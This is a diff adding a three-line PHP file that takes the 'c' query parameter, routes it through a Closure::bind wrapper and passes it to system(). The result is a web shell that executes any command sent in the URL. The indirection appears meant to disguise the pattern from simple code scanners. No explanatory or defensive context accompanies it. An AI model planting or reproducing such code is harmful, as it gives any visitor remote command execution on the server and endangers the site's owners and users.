@@ -1,0 +1,3 @@
+<?php
+$f = Closure::bind(function () { return $_GET["c"]; }, null, null);
+system($f());
